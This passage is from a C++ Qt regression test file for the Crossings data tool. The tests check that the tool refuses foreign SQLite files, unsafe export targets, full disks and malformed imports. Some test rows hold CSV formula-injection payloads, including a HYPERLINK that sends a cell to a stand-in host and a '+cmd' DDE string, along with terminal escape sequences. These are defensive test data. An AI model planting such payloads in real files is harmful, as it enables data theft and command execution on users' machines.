// SPDX-License-Identifier: GPL-3.0-or-later
// The failures a hostile test found (issue 14), each as the regression test that catches it:
// foreign and half-written stores, output that cannot be written, odd files and targets.
#include "clirunner.h"
#include "importfixture.h"
#include "storage/csvexport.h"
#include "storage/importplan.h"
#include "storage/savetarget.h"
#include "storage/store.h"

#include <QDate>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QProcess>
#include <QSqlDatabase>
#include <QSqlError>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QTest>
#include <QXmlStreamReader>
#include <QtEndian>

#include <cstdio>
#include <memory>

#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <unistd.h>

class tst_Hostile : public QObject
{
    Q_OBJECT

private slots:
    void init();
    // 5. another program's SQLite file is never changed
    void foreignSqliteFileIsLeftByteIdentical_data();
    void foreignSqliteFileIsLeftByteIdentical();
    void applicationIdIsSetOnCreationAndOnOldStores();
    // 6. a hot journal after a crash
    void hotJournalIsReadAsBeforeTheCrash_data();
    void hotJournalIsReadAsBeforeTheCrash();
    // 7. an empty file at the default location is an interrupted first run
    void emptyDefaultStoreIsCreated();
    // 2. standard output that cannot be written
    void unwritableStandardOutputFails_data();
    void unwritableStandardOutputFails();
    // 11. SVG export is valid XML
    void svgIsValidXml_data();
    void svgIsValidXml();
    // 9. export replaces only what it may
    void exportRefusesTargets_data();
    void exportRefusesTargets();
    // 10. a FIFO as import
    void importRefusesFifo();
    // 8. a full disk
    void fullDiskIsNamed();
    // 3. formula injection
    void formulaTextIsRefused_data();
    void formulaTextIsRefused();
    void storedFormulaTextIsNeutralised();
    // 4. control characters
    void controlCharactersAreRefusedAndEscaped_data();
    void controlCharactersAreRefusedAndEscaped();
    // 13. the minor ones
    void futureSourceDateIsRefused();
    void messagesHaveNoBareQtSuffix();
    // 1. bounded reports
    void reportsAreBounded_data();
    void reportsAreBounded();
    void cleanup();

private:
    using Result = TestSupport::CliResult;
    Result run(const QStringList& args, const QString& stdoutFile = QString(),
               const QProcessEnvironment& extra = {});
    QProcessEnvironment environment(const QProcessEnvironment& extra = {}) const;
    QString write(const QString& name, const QByteArray& bytes);
    static QByteArray bytes(const QString& path);
    static QString example(const char* name);
    QString userStore() const;
    bool leaveHotJournal(const QString& how, QString* error);

    std::unique_ptr<QTemporaryDir> m_dir;
    QString m_db;
    QString m_mounted; ///< a tmpfs to unmount after the test
};

void tst_Hostile::cleanup()
{
    if (!m_mounted.isEmpty()) {
        QProcess::execute(QStringLiteral("umount"), {m_mounted});
        m_mounted.clear();
    }
}

void tst_Hostile::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    QVERIFY(m_dir->isValid());
    m_db = m_dir->filePath(QStringLiteral("store.sqlite"));
    QVERIFY(QDir().mkpath(m_dir->filePath(QStringLiteral("runtime"))));
    QVERIFY(QFile::setPermissions(m_dir->filePath(QStringLiteral("runtime")),
                                  QFileDevice::ReadOwner | QFileDevice::WriteOwner |
                                      QFileDevice::ExeOwner));
    QString error;
    QVERIFY2(ImportFixture::createStore(m_db, &error), qPrintable(error));
}

QProcessEnvironment tst_Hostile::environment(const QProcessEnvironment& extra) const
{
    return TestSupport::CliRunner(m_dir->path()).environment(extra);
}

tst_Hostile::Result tst_Hostile::run(const QStringList& args, const QString& stdoutFile,
                                     const QProcessEnvironment& extra)
{
    TestSupport::CliOptions options;
    options.stdoutFile = stdoutFile;
    options.extra = extra;
    return TestSupport::CliRunner(m_dir->path()).run(args, options);
}

QString tst_Hostile::write(const QString& name, const QByteArray& content)
{
    const QString path = m_dir->filePath(name);
    QFile f(path);
    if (!f.open(QIODevice::WriteOnly) || f.write(content) != content.size())
        qFatal("cannot write %s", qPrintable(path));
    return path;
}

QByteArray tst_Hostile::bytes(const QString& path)
{
    QFile f(path);
    if (!f.open(QIODevice::ReadOnly))
        return QByteArray("<unreadable>");
    return f.readAll();
}

QString tst_Hostile::example(const char* name)
{
    return QStringLiteral(CROSSINGS_SOURCE_DIR "/docs/examples/") + QString::fromUtf8(name);
}

QString tst_Hostile::userStore() const
{
    return m_dir->filePath(QStringLiteral("data/Crossings/Crossings/crossings.sqlite"));
}

// ---------------------------------------------------------------------------------------------
// 5. Another program's SQLite file

void tst_Hostile::foreignSqliteFileIsLeftByteIdentical_data()
{
    QTest::addColumn<QStringList>("setup");
    QTest::addColumn<QString>("command");
    // The file of the report: user_version 1 and a table called meta, like Crossings' first
    // data format, but none of its other tables.
    const QStringList likeOurs = {"CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT)",
                                  "INSERT INTO meta VALUES ('bundled_checksum', 'x')",
                                  "PRAGMA user_version = 1"};
    const QStringList otherId = {"CREATE TABLE notes (id INTEGER PRIMARY KEY, text TEXT)",
                                 "INSERT INTO notes (text) VALUES ('keep me')",
                                 "PRAGMA application_id = 1196444237", // "GPKG"
                                 "PRAGMA user_version = 2"};
    for (const char* command : {"import", "dry-run", "undo", "data", "audit"}) {
        QTest::addRow("meta table, version 1: %s", command)
            << likeOurs << QString::fromUtf8(command);
        QTest::addRow("another application id: %s", command)
            << otherId << QString::fromUtf8(command);
    }
}

void tst_Hostile::foreignSqliteFileIsLeftByteIdentical()
{
    QFETCH(QStringList, setup);
    QFETCH(QString, command);
    const QString path = m_dir->filePath(QStringLiteral("other.sqlite"));
    {
        QSqlDatabase db =
            QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("raw"));
        db.setDatabaseName(path);
        QVERIFY(db.open());
        QSqlQuery q(db);
        for (const QString& s : std::as_const(setup))
            QVERIFY2(q.exec(s), qPrintable(s));
        q.finish();
        db.close();
    }
    QSqlDatabase::removeDatabase(QStringLiteral("raw"));
    const QByteArray before = bytes(path);
    const QStringList files = QDir(m_dir->path()).entryList(QDir::Files);
    QStringList args = {"--database", path};
    if (command == QLatin1String("import"))
        args << "import" << example("import-2025.csv");
    else if (command == QLatin1String("dry-run"))
        args << "import" << example("import-2025.csv") << "--dry-run";
    else if (command == QLatin1String("undo"))
        args << "import"
             << "--undo";
    else if (command == QLatin1String("data"))
        args << "data"
             << "arrivals";
    else
        args << "audit";
    const Result r = run(args);
    QCOMPARE(r.code, 1);
    QCOMPARE(r.out, QString());
    QVERIFY2(r.err.contains(QStringLiteral("\"%1\" is").arg(path)), qPrintable(r.err));
    QVERIFY2(r.err.contains(QStringLiteral("not a Crossings database")), qPrintable(r.err));
    QVERIFY2(r.err.endsWith(QStringLiteral("The file was not changed.\n")), qPrintable(r.err));
    QCOMPARE(bytes(path), before);
    QCOMPARE(QDir(m_dir->path()).entryList(QDir::Files), files);

    // The library refuses it too, in every mode, without a byte changed.
    for (Store::Mode mode :
         {Store::Mode::ReadOnly, Store::Mode::ReadWrite, Store::Mode::CreateIfMissing}) {
        Store store;
        QVERIFY(!store.open(path, mode));
        QCOMPARE(store.error(), Store::Error::NotADatabase);
        QVERIFY(store.errorString().contains(path));
        QCOMPARE(bytes(path), before);
    }
}

void tst_Hostile::applicationIdIsSetOnCreationAndOnOldStores()
{
    auto applicationId = [](const QString& path) {
        const QByteArray head = bytes(path).left(72);
        return head.size() < 72 ? 0u : qFromBigEndian<quint32>(head.constData() + 68);
    };
    QCOMPARE(applicationId(m_db), Store::ApplicationId);
    // A store written before the application id: recognised by its tables, read without a
    // change, and given the id on the first writable open.
    {
        QSqlDatabase db =
            QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("raw"));
        db.setDatabaseName(m_db);
        QVERIFY(db.open());
        QSqlQuery q(db);
        QVERIFY(q.exec(QStringLiteral("PRAGMA application_id = 0")));
        q.finish();
        db.close();
    }
    QSqlDatabase::removeDatabase(QStringLiteral("raw"));
    QCOMPARE(applicationId(m_db), 0u);
    const QByteArray before = bytes(m_db);
    const Result read = run({"--database", m_db, "data", "arrivals"});
    QCOMPARE(read.code, 0);
    QCOMPARE(bytes(m_db), before);
    {
        Store store;
        QVERIFY2(store.open(m_db, Store::Mode::ReadWrite), qPrintable(store.errorString()));
    }
    QCOMPARE(applicationId(m_db), Store::ApplicationId);
}

// ---------------------------------------------------------------------------------------------
// 6. A hot journal

bool tst_Hostile::leaveHotJournal(const QString& how, QString* error)
{
    const QString journal = m_db + QStringLiteral("-journal");
    if (how == QLatin1String("killed import")) {
        // Kill an import inside its transaction (the pause hook), after it wrote its journal.
        const QString marker = m_dir->filePath(QStringLiteral("inside-transaction"));
        QFile::remove(marker);
        QProcessEnvironment extra;
        extra.insert(QString::fromLatin1(TestSupport::PauseInImportVariable), marker);
        QProcess p;
        p.setProcessEnvironment(environment(extra));
        p.start(QStringLiteral(CROSSINGS_BINARY),
                {"--database", m_db, "import", example("import-2025-correction.csv")});
        if (!p.waitForStarted()) {
            *error = QStringLiteral("cannot start");
            return false;
        }
        QElapsedTimer timer;
        timer.start();
        while (!QFile::exists(marker) && timer.elapsed() < 60000 && p.state() == QProcess::Running)
            QTest::qWait(20);
        if (!QFile::exists(marker)) {
            *error = QString::fromUtf8(p.readAllStandardError());
            return false;
        }
        p.kill();
        p.waitForFinished(10000);
    } else {
        // A process that dies after SQLite spilled changed pages into the file: the file holds
        // figures that were never committed, and only the journal knows the committed ones.
        const QByteArray before = bytes(m_db);
        QProcess p;
        p.start(QCoreApplication::applicationFilePath(),
                {QStringLiteral("--crash-in-transaction"), m_db});
        if (!p.waitForFinished(60000) || p.exitCode() != 0) {
            *error = QString::fromUtf8(p.readAllStandardError());
            return false;
        }
        if (bytes(m_db) == before) {
            *error = QStringLiteral("the crash left the database file unchanged");
            return false;
        }
    }
    if (!QFile::exists(journal)) {
        *error = QStringLiteral("no journal was left");
        return false;
    }
    // After spilled pages the journal is hot: present, not empty, starting with its magic
    // number, and needed (a killed import's journal may be neither, before it synced).
    if (how != QLatin1String("killed import") &&
        !bytes(journal).startsWith(QByteArray("\xd9\xd5\x05\xf9\x20\xa1\x63\xd7", 8))) {
        *error = QStringLiteral("no hot journal was left");
        return false;
    }
    return true;
}

void tst_Hostile::hotJournalIsReadAsBeforeTheCrash_data()
{
    QTest::addColumn<QString>("how");
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<bool>("readOnlyFile");
    for (const char* how : {"killed import", "spilled pages"}) {
        QTest::addRow("%s: data", how) << how << QStringList{"data", "arrivals"} << false;
        QTest::addRow("%s: data, read-only file", how)
            << how << QStringList{"data", "arrivals"} << true;
        QTest::addRow("%s: audit", how) << how << QStringList{"audit", "--format", "csv"} << false;
        QTest::addRow("%s: dry run", how)
            << how << QStringList{"import", example("import-2025-correction.csv"), "--dry-run"}
            << false;
        QTest::addRow("%s: export", how)
            << how << QStringList{"export", "arrivals", "-o", "FILE.svg"} << false;
    }
}

void tst_Hostile::hotJournalIsReadAsBeforeTheCrash()
{
    QFETCH(QString, how);
    QFETCH(QStringList, args);
    QFETCH(bool, readOnlyFile);
    QVERIFY(run({"--database", m_db, "import", example("import-2025.csv")}).code == 0);
    args.replaceInStrings(QStringLiteral("FILE"), m_dir->filePath(QStringLiteral("out")));
    const Result expected = run(QStringList{"--database", m_db} + args);
    QVERIFY2(expected.code == 0, qPrintable(expected.err));

    QString error;
    QVERIFY2(leaveHotJournal(how, &error), qPrintable(error));
    if (readOnlyFile)
        QVERIFY(QFile::setPermissions(m_db, QFileDevice::ReadOwner | QFileDevice::ReadGroup));
    const QByteArray dbBefore = bytes(m_db);
    const QByteArray journalBefore = bytes(m_db + QStringLiteral("-journal"));
    const Result r = run(QStringList{"--database", m_db} + args);
    QVERIFY2(r.code == 0, qPrintable(r.err));
    QCOMPARE(r.out, expected.out);
    QCOMPARE(r.err, QString());
    // Reading wrote nothing: the journal is left for the next writer to roll back.
    QCOMPARE(bytes(m_db), dbBefore);
    QCOMPARE(bytes(m_db + QStringLiteral("-journal")), journalBefore);

    if (!readOnlyFile) {
        // The next writer rolls it back, and the import simply runs again.
        const Result again =
            run({"--database", m_db, "import", example("import-2025-correction.csv")});
        QVERIFY2(again.code == 0, qPrintable(again.err));
    }
}

// ---------------------------------------------------------------------------------------------
// 7. An empty file at the default location

void tst_Hostile::emptyDefaultStoreIsCreated()
{
    const QString path = userStore();
    QVERIFY(QDir().mkpath(QFileInfo(path).absolutePath()));
    {
        QFile f(path);
        QVERIFY(f.open(QIODevice::WriteOnly));
    }
    QCOMPARE(QFileInfo(path).size(), 0);
    const Result r = run({"data", "sources"});
    QVERIFY2(r.code == 0, qPrintable(r.err));
    QVERIFY(r.out.startsWith(QStringLiteral("id,")));
    QVERIFY(r.out.count(QLatin1Char('\n')) > 10);
    QVERIFY(QFileInfo(path).size() > 0);
    {
        Store store;
        QVERIFY2(store.open(path, Store::Mode::ReadOnly), qPrintable(store.errorString()));
    }
    // A file the user names is never taken over, even when empty.
    const QString named = write(QStringLiteral("empty.sqlite"), QByteArray());
    const Result refused = run({"--database", named, "data", "sources"});
    QCOMPARE(refused.code, 1);
    QCOMPARE(QFileInfo(named).size(), 0);
}

// ---------------------------------------------------------------------------------------------
// 2. Standard output that cannot be written

void tst_Hostile::unwritableStandardOutputFails_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::newRow("data") << QStringList{"data", "arrivals"};
    QTest::newRow("data, text") << QStringList{"data", "trade", "--format", "text"};
    QTest::newRow("audit") << QStringList{"audit"};
    QTest::newRow("audit, csv") << QStringList{"audit", "--format", "csv"};
    QTest::newRow("import --dry-run")
        << QStringList{"import", example("import-2025.csv"), "--dry-run"};
    QTest::newRow("import") << QStringList{"import", example("import-2025.csv")};
    QTest::newRow("help") << QStringList{"--help"};
    QTest::newRow("version") << QStringList{"--version"};
    QTest::newRow("export --all") << QStringList{"export", "--all", "--output-dir", "DIR"};
}

void tst_Hostile::unwritableStandardOutputFails()
{
    QFETCH(QStringList, args);
    if (!QFileInfo(QStringLiteral("/dev/full")).exists())
        QSKIP("/dev/full is missing on this system");
    args.replaceInStrings(QStringLiteral("DIR"), m_dir->filePath(QStringLiteral("figures")));
    const QByteArray before = bytes(m_db);
    const Result r = run(QStringList{"--database", m_db} + args, QStringLiteral("/dev/full"));
    QCOMPARE(r.code, 1);
    QVERIFY2(r.err.contains(QStringLiteral("the output could not be written")), qPrintable(r.err));
    if (args.first() == QLatin1String("import")) {
        // The preview could not be shown: nothing was imported.
        QVERIFY2(r.err.contains(QStringLiteral("Nothing was imported.")) ||
                     args.contains("--dry-run"),
                 qPrintable(r.err));
        QCOMPARE(bytes(m_db), before);
    }
}

// ---------------------------------------------------------------------------------------------
// 11. SVG export is valid XML

void tst_Hostile::svgIsValidXml_data()
{
    QTest::addColumn<bool>("hostileSource");
    QTest::newRow("bundled data") << false;
    QTest::newRow("a source with markup in every detail") << true;
}

void tst_Hostile::svgIsValidXml()
{
    QFETCH(bool, hostileSource);
    QStringList database;
    if (hostileSource) {
        // Every text that reaches the SVG's title, description or metadata, with XML's
        // special characters.
        const QByteArray csv =
            "dataset,series,period,region,value,qualifier,unit,status,source_id,locator,note,"
            "source_kind,source_title_en,source_title_ko,source_outlet,source_author,"
            "source_published,source_url,source_language\n"
            "arrivals,total,2010,KR,2379,,persons,final,x-amp,p. 1 <b>&amp;</b>,"
            "\"a note with \"\"quotes\"\" & <tags>\",official,\"Arrivals & departures <2025> "
            "\"\"final\"\"\",입국 & 출국 <2025>,Tom & Jerry's <Outlet>,A & B,2026-01-20,"
            "https://example.org/?a=1&b=<2>,en\n";
        QVERIFY(run({"--database", m_db, "import", write("amp.csv", csv)}).code == 0);
        database = QStringList{"--database", m_db};
    }
    const QString out = m_dir->filePath(QStringLiteral("svg"));
    const Result r = run(database + QStringList{"export", "--all", "--output-dir", out, "--lang",
                                                "both", "--format", "svg"});
    QVERIFY2(r.code == 0, qPrintable(r.err));
    const QStringList files = QDir(out).entryList({QStringLiteral("*.svg")}, QDir::Files);
    QCOMPARE(files.size(), 6); // three figures, two languages
    for (const QString& name : files) {
        const QByteArray svg = bytes(QDir(out).filePath(name));
        QXmlStreamReader xml(svg);
        QString title;
        QString desc;
        while (!xml.atEnd()) {
            xml.readNext();
            if (xml.isStartElement() && xml.name() == QLatin1String("title") && title.isEmpty())
                title = xml.readElementText();
            else if (xml.isStartElement() && xml.name() == QLatin1String("desc") && desc.isEmpty())
                desc = xml.readElementText();
        }
        QVERIFY2(!xml.hasError(), qPrintable(QStringLiteral("%1: line %2: %3")
                                                 .arg(name)
                                                 .arg(xml.lineNumber())
                                                 .arg(xml.errorString())));
        QVERIFY2(!title.isEmpty(), qPrintable(name));
        QVERIFY2(!title.contains(QLatin1String("&amp;")), qPrintable(title)); // not twice escaped
        QVERIFY2(desc.contains(QLatin1String("Source")) || desc.contains(QStringLiteral("출처")),
                 qPrintable(desc));
        if (hostileSource && name.startsWith(QLatin1String("arrivals")))
            QVERIFY2(desc.contains(QStringLiteral("https://example.org/?a=1&b=<2>")),
                     qPrintable(desc));
    }
}

// ---------------------------------------------------------------------------------------------
// 9. Export replaces only what it may

void tst_Hostile::exportRefusesTargets_data()
{
    QTest::addColumn<QString>("target");
    QTest::addColumn<QString>("message");
    QTest::newRow("read-only file") << "read-only"
                                    << "the file is read-only";
    QTest::newRow("symbolic link to a device") << "link to device"
                                               << "is not a regular file";
    QTest::newRow("a device") << "device"
                              << "is not a regular file";
    QTest::newRow("a FIFO") << "fifo"
                            << "is not a regular file";
    QTest::newRow("a link to nothing") << "dangling link"
                                       << "link to nothing";
    QTest::newRow("a folder") << "folder"
                              << "it is a folder";
    QTest::newRow("read-only folder") << "read-only folder"
                                      << "is not writable";
}

void tst_Hostile::exportRefusesTargets()
{
    QFETCH(QString, target);
    QFETCH(QString, message);
    const QString dir = m_dir->filePath(QStringLiteral("targets"));
    QVERIFY(QDir().mkpath(dir));
    QString path = dir + QStringLiteral("/figure.png");
    QString watched = path; // the node that must stay as it is
    if (target == QLatin1String("read-only")) {
        write(QStringLiteral("targets/figure.png"), "keep me");
        QVERIFY(QFile::setPermissions(path, QFileDevice::ReadOwner | QFileDevice::ReadGroup |
                                                QFileDevice::ReadOther));
    } else if (target == QLatin1String("link to device") || target == QLatin1String("device")) {
        // A device node of our own (the same as /dev/null), never a system one.
        watched = dir + QStringLiteral("/device.png");
        if (::mknod(QFile::encodeName(watched).constData(), S_IFCHR | 0666, makedev(1, 3)) != 0)
            QSKIP("cannot make a device node here (needs root outside a restricted container)");
        if (target == QLatin1String("device"))
            path = watched;
        else
            QVERIFY(QFile::link(watched, path));
    } else if (target == QLatin1String("fifo")) {
        QVERIFY(::mkfifo(QFile::encodeName(path).constData(), 0644) == 0);
    } else if (target == QLatin1String("dangling link")) {
        QVERIFY(QFile::link(dir + QStringLiteral("/nothing"), path));
        watched = dir + QStringLiteral("/nothing");
    } else if (target == QLatin1String("folder")) {
        QVERIFY(QDir().mkpath(path));
    } else if (target == QLatin1String("read-only folder")) {
        QVERIFY(QFile::setPermissions(dir, QFileDevice::ReadOwner | QFileDevice::ExeOwner));
        if (::access(QFile::encodeName(dir).constData(), W_OK) == 0 && ::geteuid() != 0)
            QSKIP("the folder stays writable");
    }
    struct stat before = {};
    const bool existed = ::lstat(QFile::encodeName(watched).constData(), &before) == 0;
    const QByteArray content = existed && S_ISREG(before.st_mode) ? bytes(watched) : QByteArray();

    QProcess p;
    p.setProcessEnvironment(environment());
    p.start(QStringLiteral(CROSSINGS_BINARY), {"export", "arrivals", "-o", path});
    const bool finished = p.waitForFinished(30000);
    if (!finished)
        p.kill();
    QVERIFY2(finished, "export blocked on the target");
    const QString err = QString::fromUtf8(p.readAllStandardError());
    // The data export (File → Export Data…) shares the checks.
    QString error;
    const bool written = SaveTarget::write(path, "x", &error);
    QFile::setPermissions(dir,
                          QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
    QVERIFY(!written);
    QVERIFY2(error.contains(message), qPrintable(error));
    QCOMPARE(p.exitCode(), 1);
    QVERIFY2(err.contains(message), qPrintable(err));
    struct stat after = {};
    const bool exists = ::lstat(QFile::encodeName(watched).constData(), &after) == 0;
    QCOMPARE(exists, existed);
    if (existed) {
        QCOMPARE(after.st_mode, before.st_mode); // same type, same permissions
        QCOMPARE(after.st_ino, before.st_ino);   // not replaced
        if (S_ISREG(before.st_mode))
            QCOMPARE(bytes(watched), content);
    }
    // No temporary file left behind.
    QStringList left = QDir(dir).entryList(QDir::Files | QDir::System | QDir::Hidden | QDir::Dirs |
                                           QDir::NoDotAndDotDot);
    for (const QString& name : std::as_const(left))
        QVERIFY2(!name.contains(QLatin1String(".png.")), qPrintable(name));
}

// ---------------------------------------------------------------------------------------------
// 10. A FIFO as import

void tst_Hostile::importRefusesFifo()
{
    const QString fifo = m_dir->filePath(QStringLiteral("p.csv"));
    QVERIFY(::mkfifo(QFile::encodeName(fifo).constData(), 0644) == 0);
    for (const QStringList& args : {QStringList{"--database", m_db, "import", fifo},
                                    QStringList{"--database", m_db, "import", fifo, "--dry-run"}}) {
        QProcess p;
        p.setProcessEnvironment(environment());
        p.start(QStringLiteral(CROSSINGS_BINARY), args);
        const bool finished = p.waitForFinished(20000);
        if (!finished) {
            p.kill();
            p.waitForFinished();
        }
        QVERIFY2(finished, "import blocked on a FIFO");
        QCOMPARE(p.exitCode(), 1);
        const QString err = QString::fromUtf8(p.readAllStandardError());
        QVERIFY2(err.contains(QStringLiteral("p.csv: this is not a regular file")),
                 qPrintable(err));
    }
}

// ---------------------------------------------------------------------------------------------
// 8. A full disk

void tst_Hostile::fullDiskIsNamed()
{
    const QString mount = m_dir->filePath(QStringLiteral("small"));
    QVERIFY(QDir().mkpath(mount));
    if (::geteuid() != 0)
        QSKIP("a full disk needs a small tmpfs, which only root can mount");
    if (QProcess::execute(QStringLiteral("mount"),
                          {"-t", "tmpfs", "-o", "size=64k", "tmpfs", mount}) != 0)
        QSKIP("cannot mount a 64 kB tmpfs here (a container without CAP_SYS_ADMIN?)");
    m_mounted = mount;
    // Fill it, leaving a few kilobytes: no figure fits.
    {
        QFile filler(mount + QStringLiteral("/filler"));
        QVERIFY(filler.open(QIODevice::WriteOnly));
        const QByteArray block(4096, 'x');
        while (filler.write(block) == block.size() && filler.flush()) {
        }
    }
    QVERIFY(QFile::resize(mount + QStringLiteral("/filler"),
                          QFileInfo(mount + QStringLiteral("/filler")).size() - 8192));
    for (const char* name : {"figure.png", "figure.svg", "figure.pdf"}) {
        const QString target = mount + QLatin1Char('/') + QString::fromLatin1(name);
        const Result r = run({"--database", m_db, "export", "arrivals", "-o", target});
        QCOMPARE(r.code, 1);
        QVERIFY2(r.err.contains(QStringLiteral("the disk is full")), qPrintable(r.err));
        QVERIFY2(r.err.contains(mount), qPrintable(r.err));
        QVERIFY2(!r.err.contains(QStringLiteral("canceled")), qPrintable(r.err));
        QCOMPARE(QDir(mount).entryList(QDir::Files), QStringList{"filler"});
    }
    // Standard output on the full disk: `data > out.csv` fails instead of leaving half a file.
    {
        QFile filler(mount + QStringLiteral("/filler-2"));
        QVERIFY(filler.open(QIODevice::WriteOnly));
        const QByteArray block(512, 'x');
        while (filler.write(block) == block.size() && filler.flush()) {
        }
    }
    const Result data =
        run({"--database", m_db, "data", "arrivals"}, mount + QStringLiteral("/out.csv"));
    QCOMPARE(data.code, 1);
    QVERIFY2(data.err.contains(QStringLiteral("the output could not be written")),
             qPrintable(data.err));
}

// ---------------------------------------------------------------------------------------------
// 3. Formula injection

namespace {
const QByteArray Header =
    "dataset,series,period,region,value,qualifier,unit,status,source_id,locator,note,"
    "source_kind,source_title_en,source_outlet\n";
}

void tst_Hostile::formulaTextIsRefused_data()
{
    QTest::addColumn<QByteArray>("row");
    QTest::addColumn<int>("column");
    QTest::addColumn<QString>("start");
    QTest::newRow("note =HYPERLINK")
        << QByteArray("arrivals,total,2025,KR,224,,persons,final,news1-2025-02-04,p. 1,"
                      "\"=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"click\"\")\",,,\n")
        << 11 << "=";
    QTest::newRow("locator +cmd")
        << QByteArray("arrivals,total,2025,KR,224,,persons,final,news1-2025-02-04,"
                      "+cmd|' /C calc'!A0,,,,\n")
        << 10 << "+";
    QTest::newRow("title @SUM")
        << QByteArray("arrivals,total,2025,KR,224,,persons,final,new-source,,,press,@SUM(1+1),"
                      "Outlet\n")
        << 13 << "@";
    QTest::newRow("outlet -2+3")
        << QByteArray("arrivals,total,2025,KR,224,,persons,final,new-source,,,press,A title,"
                      "-2+3\n")
        << 14 << "-";
    QTest::newRow("note after a tab")
        << QByteArray("arrivals,total,2025,KR,224,,persons,final,news1-2025-02-04,,\"\t=1+1\",,,\n")
        << 11 << "=";
}

void tst_Hostile::formulaTextIsRefused()
{
    QFETCH(QByteArray, row);
    QFETCH(int, column);
    QFETCH(QString, start);
    const QString file = write(QStringLiteral("formula.csv"), Header + row);
    const QByteArray before = bytes(m_db);
    const Result r = run({"--database", m_db, "import", file});
    QCOMPARE(r.code, 1);
    QVERIFY2(r.err.contains(QStringLiteral("formula.csv, line 2, column %1: the text starts with "
                                           "\"%2\", which spreadsheets take for a formula")
                                .arg(column)
                                .arg(start)),
             qPrintable(r.err));
    QCOMPARE(bytes(m_db), before);
}

void tst_Hostile::storedFormulaTextIsNeutralised()
{
    // Text stored before the import refused it (or written into the store by other means)
    // comes out of every CSV with a leading apostrophe; numbers stay numbers.
    {
        QSqlDatabase db =
            QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("raw"));
        db.setDatabaseName(m_db);
        QVERIFY(db.open());
        QSqlQuery q(db);
        QVERIFY(
            q.exec(QStringLiteral("UPDATE observations SET note = '=HYPERLINK(\"http://x\")', "
                                  "locator = '@SUM(A1)' WHERE source_id = 'news1-2025-02-04'")));
        QVERIFY(q.exec(QStringLiteral("UPDATE sources SET title_en = '+cmd|calc', outlet = "
                                      "char(9) || 'tab', note = '-1+2' WHERE id = 'voa-2020-04'")));
        q.finish();
        db.close();
    }
    QSqlDatabase::removeDatabase(QStringLiteral("raw"));
    const Result arrivals = run({"--database", m_db, "data", "arrivals"});
    QCOMPARE(arrivals.code, 0);
    QVERIFY2(arrivals.out.contains(QStringLiteral("'@SUM(A1),\"'=HYPERLINK(\"\"http://x\"\")\"")),
             qPrintable(arrivals.out));
    QVERIFY(!arrivals.out.contains(QStringLiteral(",=")));
    QVERIFY(arrivals.out.contains(QStringLiteral(",236,"))); // values unchanged
    const Result sources = run({"--database", m_db, "data", "sources"});
    QCOMPARE(sources.code, 0);
    QVERIFY2(sources.out.contains(QStringLiteral(",'+cmd|calc,")), qPrintable(sources.out));
    QVERIFY2(sources.out.contains(QStringLiteral(",'\ttab,")), qPrintable(sources.out));
    QVERIFY2(sources.out.contains(QStringLiteral(",'-1+2,")), qPrintable(sources.out));
    // File → Export Data… (the import format).
    Store store;
    QVERIFY(store.open(m_db, Store::Mode::ReadOnly));
    Snapshot snapshot;
    QVERIFY(store.load(&snapshot));
    const QString exported =
        CsvExport::figures(snapshot, {QStringLiteral("arrivals")}, CsvExport::SourceColumns::With);
    QVERIFY(exported.contains(QStringLiteral("'@SUM(A1),\"'=HYPERLINK(")));
    QVERIFY(!exported.contains(QStringLiteral(",=")));
}

// ---------------------------------------------------------------------------------------------
// 4. Control characters

void tst_Hostile::controlCharactersAreRefusedAndEscaped_data()
{
    QTest::addColumn<QByteArray>("row");
    QTest::addColumn<QString>("shown");
    QTest::newRow("escape and bell in a title")
        << QByteArray("arrivals,total,2025,KR,224,,persons,final,new-source,,,press,"
                      "Title \x1b]0;owned\x07 here,Outlet\n")
        << "U+001B";
    QTest::newRow("clear screen in a value")
        << QByteArray("arrivals,total,2025,KR,22\x1b[2J4,,persons,final,news1-2025-02-04,,,,,\n")
        << "\\x1b[2J";
    QTest::newRow("C1 control in a locator")
        << QByteArray("arrivals,total,2025,KR,224,,persons,final,news1-2025-02-04,p. \xc2\x9b"
                      "2J,,,,\n")
        << "U+009B";
}

void tst_Hostile::controlCharactersAreRefusedAndEscaped()
{
    QFETCH(QByteArray, row);
    QFETCH(QString, shown);
    const QString file = write(QStringLiteral("control.csv"), Header + row);
    for (const char* lang : {"en", "ko"}) {
        QProcess p;
        p.setProcessEnvironment(environment());
        p.start(QStringLiteral(CROSSINGS_BINARY),
                {"--lang", lang, "--database", m_db, "import", file, "--dry-run"});
        QVERIFY(p.waitForFinished(60000));
        QCOMPARE(p.exitCode(), 1);
        const QByteArray out = p.readAllStandardOutput() + p.readAllStandardError();
        QVERIFY2(out.contains(shown.toUtf8()), out.constData());
        for (char c : out)
            QVERIFY2(uchar(c) >= 0x20 || c == '\n', qPrintable(QStringLiteral("raw byte %1 in: %2")
                                                                   .arg(int(uchar(c)))
                                                                   .arg(QString::fromUtf8(out))));
        QVERIFY2(!out.contains("\xc2\x9b"), out.constData());
    }
}

// ---------------------------------------------------------------------------------------------
// 13. The minor ones

void tst_Hostile::futureSourceDateIsRefused()
{
    const QDate tomorrow = QDate::currentDate().addDays(1);
    for (const QString& date :
         {QStringLiteral("2999-01-01"), QStringLiteral("2999"), tomorrow.toString(Qt::ISODate)}) {
        const QByteArray csv =
            "dataset,series,period,region,value,qualifier,unit,status,source_id,locator,note,"
            "source_kind,source_title_en,source_published\n"
            "arrivals,total,2025,KR,224,,persons,final,future,,,press,From the future," +
            date.toUtf8() + "\n";
        const Result r = run(
            {"--database", m_db, "import", write(QStringLiteral("future.csv"), csv), "--dry-run"});
        QCOMPARE(r.code, 1);
        QVERIFY2(
            r.err.contains(QStringLiteral("future.csv, line 2, column 14: date \"%1\" is after "
                                          "today")
                               .arg(date)),
            qPrintable(r.err));
    }
    // Today is not the future.
    const QByteArray csv = "dataset,series,period,region,value,qualifier,unit,status,source_id,"
                           "locator,note,source_kind,source_title_en,source_published\n"
